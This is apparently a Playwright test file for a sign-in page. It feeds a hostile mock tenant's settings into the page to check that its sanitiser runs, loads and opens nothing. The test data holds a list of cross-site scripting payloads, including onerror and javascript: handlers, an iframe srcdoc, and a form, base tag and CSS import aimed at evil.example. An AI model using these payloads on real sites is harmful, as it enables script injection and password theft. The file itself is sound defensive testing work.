import type { Page } from '@playwright/test';
import { listenOnLocalhost } from '../../mocks/server/listen.ts';
import { hostileAddresses, MARK } from '../hostile/addresses.ts';
import { tracesIn } from '../hostile/traces.ts';
import { expect, test } from '../setup/fixtures.ts';
import { startHostedBuild } from '../setup/hosted-build.ts';
import { expectRendered } from '../setup/rendered.ts';
import { startSignIn } from './steps.ts';

/** HTML that a page with a bad sanitiser would run, load or show. */
const HTML = `<script>alert(1)</script> <img src=x onerror=alert(1)> <svg onload=alert(1)> <b onclick=alert(1)>x</b>
  <a href="java&Tab;script:alert(1)">x</a> <iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
  <form action="https://evil.example/"><input name="password"></form> <base href="https://evil.example/">
  <svg><style><a title="</style><img src onerror=alert(1)>"></svg> <meta http-equiv="refresh" content="0;url=/x">
  <template shadowrootmode=open><img src=x onerror=alert(1)></template> <style>*{display:none}</style>
  <div id=root style="position:fixed;inset:0;z-index:9999"></div> <a id=logtoNativeSdk></a>`;
const SCRIPT = 'javascript:alert(1)';
const DATA = 'data:text/html,<script>alert(1)</script>';
const CSS = '</style><script>alert(1)</script> @import url("https://evil.example/x.css"); }}}* { color: red';

const SETTINGS = {
  signInMode: 'SignInAndRegister',
  branding: { logoUrl: SCRIPT, darkLogoUrl: DATA, favicon: SCRIPT },
  termsOfUseUrl: SCRIPT,
  privacyPolicyUrl: DATA,
  supportWebsiteUrl: SCRIPT,
  supportEmail: HTML,
  customCss: CSS,
  customContent: { '/sign-in': `${HTML}<p title="the end">x</p>` },
  socialSignInConnectorTargets: ['evil'],
  socialConnectors: [{ id: 'evil', target: 'evil', platform: 'Web', name: { en: HTML }, logo: DATA }],
};
const TEXTS = { description: { sign_in: HTML }, action: { sign_in: HTML }, input: { username: HTML } };

const startHostileServer = () =>
  listenOnLocalhost(({ url = '' }, response) => {
    const send = (status: number, body: object) =>
      response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
    if (url.includes('/sign-in-exp')) send(200, SETTINGS);
    else if (url.includes('/phrases')) send(200, { languageTag: 'en', translation: TEXTS });
    else send(400, { code: 'hostile.code', message: HTML });
  }, 0);

/** Records the code that the page runs, the windows that it opens and its requests to other hosts; the array grows. */
async function watchPage(page: Page, origin: string): Promise<string[]> {
  const done: string[] = [];
  await page.exposeFunction('tell', (text: string) => done.push(text));
  await page.addInitScript('alert = (value) => tell(`${value} ran`)');
  page.on('popup', (popup) => done.push(`a window: ${popup.url()}`));
  page.on('frameattached', () => done.push('a frame'));
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(`${origin}/`) && !url.startsWith('data:')) done.push(url);
  });
  return done;
}

const tracesOf = (page: Page): Promise<string[]> =>
  page.evaluate(`(${tracesIn.toString()})(document, ${JSON.stringify(MARK)})`);

test('runs, shows, loads and opens nothing of hostile addresses', async ({ page, site, messages }) => {
  await startSignIn(page, 'social');
  const done = await watchPage(page, site.origin);
  // Some pages continue by themselves, to a provider or to the application.
  const stay = hostileAddresses(30).filter((address) => !/^\/(direct|(sign-in\/)?consent)\b/.test(address));
  for (const address of stay.slice(0, 12)) {
    await page.goto(site.origin + address, { waitUntil: 'commit' });
    await expectRendered(page);
    await expect.poll(() => tracesOf(page), address).toEqual([]);
    expect([...done, ...messages.all()], address).toEqual([]);
  }
});

test.describe('a hostile tenant', () => {
  // The browser reports event handlers even if the sanitiser only parses them.
  const reports = /ecurity [Pp]olicy|Failed to load resource|Settings that could not be used|@import/;
  test.use({ possibleWarnings: [reports] });

  test('runs and loads nothing, and cannot block the form', async ({ page }) => {
    const server = await startHostileServer();
    const host = await startHostedBuild({ backend: server.origin });
    const done = await watchPage(page, host.origin);
    await page.goto(`${host.origin}/sign-in`);
    const content = page.locator('aside');
    await expect(content.locator('[title="the end"]')).toHaveCount(1);
    await page.locator('input[name="identifier"]').fill('ada');
    await page.locator('main input[type="password"]').fill('secret');
    await page.locator('main [type="submit"]').first().click();
    await expect(page.locator('main [data-part="notice"][data-tone="danger"]')).toContainText('alert(1)');
    for (const part of await content.locator('*').all()) await part.dispatchEvent('click');
    const odd = 'iframe, form, input, base, meta, style, script, template, [id]:not([id^="user-content-"])';
    await expect(content.locator(odd)).toHaveCount(0);
    expect([...done, ...(await tracesOf(page))]).toEqual([]);
    await host.close();
    await server.close();
  });

  test('is found if it runs something', async ({ page, site }) => {
    const done = await watchPage(page, site.origin);
    await page.goto('/unknown-session');
    await expectRendered(page);
    await page.evaluate((mark) => {
      alert(1);
      document.querySelector('main')?.append(mark, document.createElement('iframe'));
    }, MARK);
    await expect.poll(() => done.toSorted()).toEqual(['1 ran', 'a frame']);
    expect(await tracesOf(page)).toEqual([`<main> says ${MARK}`]);
  });
});
